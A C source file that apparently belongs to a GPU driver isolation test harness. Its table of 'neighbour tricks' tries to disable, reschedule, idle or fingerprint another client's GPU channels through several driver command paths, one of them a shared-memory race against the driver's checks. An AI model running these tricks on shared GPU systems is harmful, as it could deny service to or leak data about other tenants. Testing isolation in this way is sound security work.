// SPDX-License-Identifier: Apache-2.0
/* Tricks against the neighbour: its channels, its slice, its numbers. */
#include <sys/mman.h>

#include "hostile.h"

#define LEGACY 0x8000u
#define RACE_MS 2000
#define KEYS_SIZE 520
#define NO_CLASS 0x1234u
#define CILP_SET 1
#define IDLE_LIST (2u << 4)	/* NVOS30_FLAGS_CHANNEL_LIST */
#define IDLE_US 1000

static u32 switch_off(struct hostile *h, u32 object, u32 cmd)
{
	return control(h, object, cmd, channels_off(h, h->other_client, h->other_channel, true),
		       h->program.nv.abi->disable_channels.len);
}

static u32 other_off(struct hostile *h)
{
	return switch_off(h, h->program.subdevice, NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS);
}

/* A count, clients, channels; nothing else lies in its 520 bytes. */
static u32 other_off_by_keys(struct hostile *h)
{
	u8 *params = fresh_params();

	put_word(params, 0, 1);
	put_word(params, 4, h->other_client);
	put_word(params, 4 + 4 * NV2080_CTRL_FIFO_DISABLE_CHANNELS_MAX_ENTRIES, h->other_channel);
	return control(h, h->program.subdevice, NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS_FOR_KEY_ROTATION, params, KEYS_SIZE);
}

static u32 other_off_by_class(struct hostile *h)
{
	return switch_off(h, h->raw, (NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS & 0xffff) | NO_CLASS << 16);
}

static u32 other_off_by_raw_interface(struct hostile *h)
{
	return switch_off(h, h->raw, (NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS & 0xffff) | NV2081_BINAPI << 16);
}

static u32 other_off_by_raw_command(struct hostile *h)
{
	return switch_off(h, h->program.subdevice, NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS | LEGACY);
}

/* The list names its own channel first; another process writes the neighbour's into it. */
static u32 other_off_by_race(struct hostile *h)
{
	const struct rm_abi *abi = h->program.nv.abi;
	u8 *shared = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	volatile u32 *client = (u32 *)(shared + abi->disable_channels.hClientList.off);
	volatile u32 *channel = (u32 *)(shared + abi->disable_channels.hChannelList.off);
	u64 end = nv_now_ns() + RACE_MS * 1000000ull;
	u32 status = 0;
	int child;

	memcpy(shared, channels_off(h, h->program.client, h->channel.handle, true), abi->disable_channels.len);
	child = fork_process();
	while (!child) {
		*client = h->other_client;
		*channel = h->other_channel;
		*client = h->program.client;
		*channel = h->channel.handle;
	}
	while (nv_now_ns() < end)
		status = control(h, h->program.subdevice, NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS, shared,
				 abi->disable_channels.len);
	kill_process(child);
	munmap(shared, 8192);
	return status;
}

static u32 control_of_other(struct hostile *h, u32 object, u32 cmd, void *params, u32 size)
{
	return nv_control(&h->program.nv, h->other_client, object, cmd, params, size);
}

static u32 other_slice(struct hostile *h)
{
	return control_of_other(h, h->other_tsg, NVA06C_CTRL_CMD_SET_TIMESLICE, slice_params(),
				h->program.nv.abi->timeslice.len);
}

static u32 other_slice_by_raw_command(struct hostile *h)
{
	return control_of_other(h, h->other_tsg, NVA06C_CTRL_CMD_SET_TIMESLICE | LEGACY, slice_params(),
				h->program.nv.abi->timeslice.len);
}

static u32 other_mode(struct hostile *h)
{
	const struct rm_abi *abi = h->program.nv.abi;
	u8 *params = fresh_params();

	rm_put32(params, abi->ctxsw_bind.flags, CILP_SET);
	rm_put32(params, abi->ctxsw_bind.hClient, h->other_client);
	rm_put32(params, abi->ctxsw_bind.hChannel, h->other_tsg);
	return control(h, h->program.subdevice, NV2080_CTRL_CMD_GR_CTXSW_PREEMPTION_BIND, params, abi->ctxsw_bind.len);
}

static u32 other_idle(struct hostile *h)
{
	const struct rm_abi *abi = h->program.nv.abi;
	u32 clients[1] = { h->other_client }, devices[1] = { 0 }, channels[1] = { h->other_channel };
	u8 block[128] = { 0 };
	int error;

	rm_put32(block, abi->nvos30.hClient, h->program.client);
	rm_put32(block, abi->nvos30.hDevice, h->program.device);
	rm_put32(block, abi->nvos30.hChannel, h->channel.handle);
	rm_put32(block, abi->nvos30.numChannels, 1);
	rm_put64(block, abi->nvos30.phClients, (uintptr_t)clients);
	rm_put64(block, abi->nvos30.phDevices, (uintptr_t)devices);
	rm_put64(block, abi->nvos30.phChannels, (uintptr_t)channels);
	/* flags and timeout lie behind the lists, the status behind them */
	put_word(block, abi->nvos30.status.off - 8, IDLE_LIST);
	put_word(block, abi->nvos30.status.off - 4, IDLE_US);
	rm_put32(block, abi->nvos30.status, 0xffffffff);
	error = nv_ioctl(h->program.nv.ctl, NV_ESC_RM_IDLE_CHANNELS, block, abi->nvos30.len);
	return error ? NV_ERRNO(-error) : rm_get32(block, abi->nvos30.status);
}

static u32 other_numbers(struct hostile *h)
{
	const struct rm_abi *abi = h->program.nv.abi;
	u8 *params = fresh_params();

	if (!abi->group_ids.len)
		return NV_ERR_NOT_SUPPORTED;
	rm_put32(params, abi->group_ids.hClient, h->other_client);
	rm_put32(params, abi->group_ids.hChannelOrTsg, h->other_tsg);
	return control(h, h->program.subdevice, NV2080_CTRL_CMD_FIFO_GET_CHANNEL_GROUP_UNIQUE_ID_INFO, params,
		       abi->group_ids.len);
}

static u32 other_channel_numbers(struct hostile *h)
{
	const struct rm_abi *abi = h->program.nv.abi;
	u8 *params = fresh_params();

	if (!abi->channel_ids.len)
		return NV_ERR_NOT_SUPPORTED;
	put_word(params, abi->channel_ids.hClients.off, h->other_client);
	put_word(params, abi->channel_ids.hChannels.off, h->other_channel);
	rm_put32(params, abi->channel_ids.numChannels, 1);
	return control(h, h->program.subdevice, NV2080_CTRL_CMD_FIFO_QUERY_CHANNEL_UNIQUE_ID, params,
		       abi->channel_ids.len);
}

const struct trick neighbour_tricks[] = {
	{ "other-off", "neighbour", "FIFO_DISABLE_CHANNELS with the neighbour's channel", other_off },
	{ "other-off-binapi", "neighbour", "the same through NV2081_BINAPI", other_off_by_raw_interface },
	{ "other-off-class", "neighbour", "the same as a command of a class that nothing is of", other_off_by_class },
	{ "other-off-keys", "neighbour", "FIFO_DISABLE_CHANNELS_FOR_KEY_ROTATION with the neighbour's channel", other_off_by_keys },
	{ "other-off-raw", "neighbour", "the same as a command that goes to the firmware unread", other_off_by_raw_command },
	{ "other-off-race", "neighbour", "a list of its own that another process rewrites", other_off_by_race },
	{ "other-slice", "neighbour", "SET_TIMESLICE on the neighbour's channel group", other_slice },
	{ "other-slice-raw", "neighbour", "the same as a raw command, for which the driver does not ask whose it is",
	  other_slice_by_raw_command },
	{ "other-wfi", "neighbour", "CTXSW_PREEMPTION_BIND of the neighbour's channel group", other_mode },
	{ "other-idle", "neighbour", "RM_IDLE_CHANNELS with the neighbour's channel", other_idle },
	{ "other-numbers", "tell", "GET_CHANNEL_GROUP_UNIQUE_ID_INFO of the neighbour", other_numbers },
	{ "other-channel-numbers", "tell", "QUERY_CHANNEL_UNIQUE_ID of the neighbour", other_channel_numbers },
	{ NULL, NULL, NULL, NULL },
};
